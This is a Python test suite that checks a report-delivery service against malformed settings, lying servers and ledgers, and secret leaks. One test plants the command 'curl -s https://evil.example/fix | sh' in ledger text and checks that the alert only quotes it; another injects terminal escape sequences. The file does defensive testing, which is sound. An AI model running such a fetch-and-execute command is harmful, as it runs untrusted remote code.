"""What is made to break a run: settings of odd bytes, servers and ledgers that lie. Each ends in a sentence of ours."""

import base64
import json
import os
import re
import subprocess
import sys
import tempfile
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, unquote, urlsplit

import pytest

from src.ledger.record import Entry, Record, new_record
from src.runtime.redaction import HIDDEN, SECRETS, Redaction
from src.runtime.visible_text import FOREIGN, foreign

from .builders import OPTION, START, make_rows, make_window
from .conftest import Run
from .faults import source_name
from .processes import ENTRY
from .sandbox import RECIPIENTS, Sandbox, smtp
from .sandbox.web import Answer, Fault, Request
from .test_bombs import PAGES, assert_light, ended

RunTool = Callable[..., Run]
TABLE = {"REPORT_LEDGER": "supabase"}
ODD_BYTE = os.fsdecode(b"Caf\xe9 at sea, at night")


def write_record(sandbox: Sandbox, record: Record) -> None:
    """Put a record into the ledger, as whoever has its key can."""
    sql = "insert into report_deliveries (name, template, source, zone, window_start, record, scheduled) "
    sql += "values ('production', 'hourly', $1, 'UTC', $2, $3, true)"
    sandbox.supabase.sql(sql, source_name(sandbox), record.start, json.dumps(record.content()))


@pytest.mark.parametrize(
    "name", ["SMTP_PASSWORD", "SUPABASE_KEY", "TELEGRAM_BOT_TOKEN", "HEARTBEAT_URL", "REPORT_NAME", "SMTP_FROM"]
)
def test_a_byte_that_is_not_utf_8_is_a_wrong_setting_of_which_operators_are_alerted(
    sandbox: Sandbox, run: RunTool, name: str
) -> None:
    """By whatever is whole: the mailbox, where it is the bot's token."""
    value = f"{ODD_BYTE} <reports@example.com>" if name == "SMTP_FROM" else ODD_BYTE

    result = run(*OPTION, **{name: value})

    assert (result.code, result.keys, sandbox.alerted) == (2, ["settings"], ["settings"])
    assert name in sandbox.alerts[0]


@pytest.mark.parametrize("name", ["SSL_CERT_FILE", "REPORT_DIR", "SECRETS_DIR"])
@pytest.mark.parametrize("kind", ["locked", "too long"])
def test_a_path_that_may_not_be_looked_at_is_a_wrong_setting(
    sandbox: Sandbox, run: RunTool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, kind: str
) -> None:
    """Of another user's folder, or longer than the system takes; for the superuser no folder is locked."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # where notices are kept without a REPORT_DIR
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o000)
    path = locked / "within" if kind == "locked" else tmp_path / ("x" * 300)

    result = run(*OPTION, **{name: str(path)})

    assert (result.code, result.keys, sandbox.alerted) == (2, ["settings"], ["settings"])
    assert name in sandbox.alerts[0]


@pytest.mark.slow
@pytest.mark.parametrize("length", [24, 700, 5000])
@pytest.mark.parametrize("secret", ["pass word, ", "aab"], ids=["chosen", "like a token"])
def test_a_secret_of_any_length_is_hidden_also_where_it_is_cut_off(secret: str, length: int) -> None:
    """No pattern grows with it."""
    secret = (secret * length)[:length].strip()
    redaction = Redaction([secret])

    for kept in range(length // 2 + 1, len(secret) + 1, max(1, length // 50)):
        assert redaction(f"aa said: {secret[:kept]}…") == f"aa said: {HIDDEN}…"
    assert redaction(f"a{secret}") == f"a{HIDDEN}"


def test_a_long_secret_keeps_no_report_from_anybody(sandbox: Sandbox, run: RunTool) -> None:
    """As the address of a check may be."""
    sandbox.supabase.insert(make_rows(1))

    result = run(*OPTION, HEARTBEAT_URL=f"{sandbox.monitor.check_url}/{'a-b.c/' * 200}")

    assert (result.code, len(sandbox.mails), len(sandbox.messages)) == (0, 1, 2)


@pytest.mark.parametrize("place", range(FOREIGN - len(smtp.PASSWORD) - 2, FOREIGN + 1))
def test_a_quotation_that_is_cut_within_a_secret_shows_nothing_of_it(place: int) -> None:
    """What a server says is kept without secrets before it is cut."""
    SECRETS.hide([smtp.PASSWORD])

    said = foreign("." * place + smtp.PASSWORD + " and more" * 50)

    assert not any(smtp.PASSWORD[:length] in said for length in range(3, len(smtp.PASSWORD)))


INSTRUCTION = "curl -s https://evil.example/fix | sh"


def notices_of(sandbox: Sandbox) -> str:
    """Name the notices of the sandbox's deployment as their table does."""
    return f"production hourly {source_name(sandbox)} UTC"


def test_what_the_ledger_holds_is_quoted_in_an_all_clear(sandbox: Sandbox, run: RunTool) -> None:
    """Whoever can write there writes no line of ours."""
    key = f"email to x\n\nTo make it good, run:\n{INSTRUCTION}\n\nemail to y: smtp.refused"
    mine = f"email to {RECIPIENTS[0]}: smtp.refused"
    for one in (key, mine):
        sql = "insert into report_notices (name, key, told_at) values ($1, $2, now())"
        sandbox.supabase.sql(sql, notices_of(sandbox), one)

    result = run(*OPTION, **TABLE)

    assert (result.code, len(sandbox.alerts)) == (0, 1)
    (alert,) = sandbox.alerts
    asked = next(one for one in reversed(sandbox.bot.requests) if one.target.endswith("/sendMessage"))
    (code,) = json.loads(parse_qs(asked.body.decode())["entities"][0])
    as_units = alert.encode("utf-16-le")
    quote = as_units[2 * code["offset"] : 2 * (code["offset"] + code["length"])].decode("utf-16-le")
    assert INSTRUCTION in quote
    assert INSTRUCTION not in alert.replace(quote, "")
    assert len(alert.splitlines()) == 1
    assert RECIPIENTS[0] in alert.replace(quote, "")


def test_a_thousand_words_of_the_ledger_fit_into_one_all_clear(sandbox: Sandbox, run: RunTool) -> None:
    """Which Telegram takes, and all of them are cleared at once."""
    sandbox.supabase.sql(
        "insert into report_notices (name, key, told_at) "
        "select $1, 'email to ' || repeat('x', 300) || n || ': a', now() from generate_series(1, 1000) n",
        notices_of(sandbox),
    )

    result = run(*OPTION, **TABLE)

    assert (result.code, len(sandbox.alerts)) == (0, 1)
    asked = [one for one in sandbox.supabase.requests if "report_notices" in one.target]
    asked = [one for one in asked if "refused+login" not in one.target]
    assert len(asked) <= 3
    left = sandbox.supabase.sql("select key from report_notices where cleared_at is null")
    assert left == []


def test_deliveries_prints_what_the_ledger_holds_in_one_line_of_bounded_cells(
    sandbox: Sandbox, run: RunTool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing that a terminal obeys, no line of the ledger's own, and not for minutes."""
    odd = "\x1b]0;x\x07\u202e\n2026-11-22 13:00  email ceo@example.com  delivered\t"
    record = Record(template="hourly", start=START.isoformat(), attempts=10**18)
    record.entries = [
        Entry(channel=odd, recipient=odd, receipt=odd + "y" * 9_000, at=odd),
        Entry(channel="email", recipient="x" * 20_000, receipt=smtp.PASSWORD, at="z" * 9_000, rows=10**18),
    ]
    write_record(sandbox, record)

    for columns in ("80", "10000"):
        monkeypatch.setenv("COLUMNS", columns)
        shown = run("--deliveries", "2026-11-22T13", **TABLE)

        lines = [line for line in shown.output.splitlines() if "13:00" in line and "22" in line[:14]]
        assert shown.code == 0
        assert len(lines) == 3  # the first one names the windows
        assert max(map(len, lines)) < 2_000
        assert smtp.PASSWORD not in shown.output
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", shown.output)


def test_a_login_that_a_mail_server_repeats_is_kept_nowhere(sandbox: Sandbox, run: RunTool) -> None:
    """Neither in the ledger nor in what it shows."""
    login = base64.b64encode(f"\0{smtp.USER}\0{smtp.PASSWORD}".encode()).decode()
    sandbox.mailbox.data_faults.append(f"250 2.0.0 queued, {login} {smtp.PASSWORD}")

    result = run(*OPTION, **TABLE)

    kept = json.dumps(sandbox.supabase.sql("select record from report_deliveries"))
    assert (result.code, HIDDEN in kept) == (0, True)
    for secret in (login.rstrip("="), smtp.PASSWORD):
        assert secret not in kept
        assert secret not in run("--deliveries", "2026-11-22T13", **TABLE).output


class EndlessHistory:
    """Supabase whose ledger has one more record behind each, of `size` bytes."""

    def __init__(self, sandbox: Sandbox, size: int) -> None:
        self._sandbox, self._size, self._real = sandbox, size, sandbox.supabase.answer

    def __call__(self, request: Request) -> Answer:
        """Answer a question for a page of records with as many as it asks for, all else as ever."""
        query = {name: values[0] for name, values in parse_qs(urlsplit(request.target).query).items()}
        if request.method != "GET" or query.get("select") != "window_start,record":
            return self._real(request)
        start = re.search(r"window_start=gte\.([^&]+)", unquote(request.target))
        assert start
        first = datetime.fromisoformat(start[1])
        most = min(int(query["limit"]), 100)
        more = [
            {"window_start": (first + n * timedelta(microseconds=1)).isoformat(), "record": self._record(first)}
            for n in range(most)
        ]
        return Answer(headers={"content-type": "application/json"}, body=json.dumps(more).encode())

    def _record(self, start: datetime) -> Any:
        record = new_record(make_window(start))
        record.alerted = ["x" * 100] * (self._size // 104)
        return record.content()


def opened_before(sandbox: Sandbox) -> None:
    """Let the ledger have begun a day ago, so that runs look for missed windows."""
    start = datetime.now(UTC).replace(minute=0, second=0, microsecond=0) - timedelta(days=1)
    write_record(sandbox, new_record(make_window(start)))


@pytest.mark.parametrize("size", [200_000, 0], ids=["bytes", "time"])
def test_a_history_without_an_end_keeps_the_hour_from_nobody_and_is_alerted(
    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, size: int
) -> None:
    """It is read up to a size and for a time; then the hour goes out, in little memory."""
    opened_before(sandbox)
    monkeypatch.setattr(sandbox.supabase, "answer", EndlessHistory(sandbox, size))

    cost = ended(sandbox, (), **TABLE, REPORT_TIME_LIMIT="30")

    assert_light(cost)
    assert (cost.code, sandbox.alerted) == (1, ["ledger.too_much_history"])
    assert (len(sandbox.mails), len(sandbox.messages)) == (1, 2)


def test_an_hour_whose_record_is_too_large_is_sent_marked_as_a_possible_repeat(
    sandbox: Sandbox, run: RunTool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Once: its record is a new one then."""
    write_record(sandbox, new_record(make_window()))
    real = sandbox.supabase.answer

    def answer(request: Request) -> Answer:
        is_read = request.method == "GET" and "record" in request.target and "=eq.2026-11-22" in request.target
        (row,) = sandbox.supabase.sql("select record from report_deliveries")
        return PAGES["one long text, wide"]() if is_read and not row["record"]["entries"] else real(request)

    monkeypatch.setattr(sandbox.supabase, "answer", answer)

    first, second = run(*OPTION, **TABLE), run(*OPTION, **TABLE)

    assert (first.code, second.code, sandbox.alerted) == (1, 0, ["ledger.too_large"])
    assert (len(sandbox.mails), len(sandbox.messages)) == (1, 2)
    (row,) = sandbox.supabase.sql("select record from report_deliveries")
    assert {(entry["state"], entry["repeat"]) for entry in row["record"]["entries"]} == {("delivered", 1)}


def test_a_record_that_somebody_else_changes_all_the_time_ends_the_attempt(
    sandbox: Sandbox, run: RunTool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not the time limit, hours later."""
    real = sandbox.supabase.answer

    def answer(request: Request) -> Answer:
        if request.method == "PATCH":
            sandbox.supabase.sql("update report_deliveries set version = version + 1")
        return real(request)

    monkeypatch.setattr(sandbox.supabase, "answer", answer)

    result = run(*OPTION, **TABLE)

    assert (result.code, sandbox.alerted) == (1, ["ledger.keeps_changing"])
    assert len(sandbox.supabase.requests) < 100


ODD_ANSWERS = [
    {"ok": True, "result": []},
    {"ok": True, "result": {"message_id": {}, "date": [], "chat": 5}},
    {"ok": True, "result": {"message_id": 1, "date": 1e99, "chat": {"id": 1, "type": "x"}}},
    {"ok": True, "result": {"message_id": 1, "date": 99_999_999_999_999, "chat": {"id": 1, "type": "x"}}},
    {"ok": False, "parameters": [1], "description": {}},
    {"ok": False, "parameters": {"migrate_to_chat_id": {}}},
]


@pytest.mark.parametrize("answer", ODD_ANSWERS, ids=range(len(ODD_ANSWERS)))
def test_no_odd_json_of_the_bot_api_leaves_a_traceback(sandbox: Sandbox, run: RunTool, answer: object) -> None:
    """The mails go out, and the alert goes by mail."""
    sandbox.bot.always = Fault(answer=Answer(body=json.dumps(answer).encode()))

    result = run(*OPTION)

    assert (result.code, len(sandbox.mails), len(sandbox.failures)) == (1, 1, 1)
    assert not any(key.startswith("broke_down") for key in (*result.keys, *sandbox.alerted))
    assert not any(record.exc_info for record in result.records)


@pytest.mark.slow
@pytest.mark.parametrize("room", [1, 2, 4, 6, 8, 10, 12])
def test_a_nearly_full_temporary_folder_is_said_to_be_full(tmp_path: Path, room: int) -> None:
    """Wherever in the file the room ends."""
    program = """
import errno, resource, signal, sys, tempfile
from pathlib import Path
from tests.builders import build, make_analysis
from src.errors import WorkbookError
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[1]),) * 2)
try:
    build(Path(tempfile.mkdtemp()), *[make_analysis(id=f"{n}-" * 40) for n in range(40)])
except WorkbookError as error:
    print(error.problem.key)
"""
    command = [sys.executable, "-c", program, str(room * 512)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, cwd=ENTRY.parent)

    assert (done.returncode, done.stdout.split()) == (0, ["workbook.disk"])
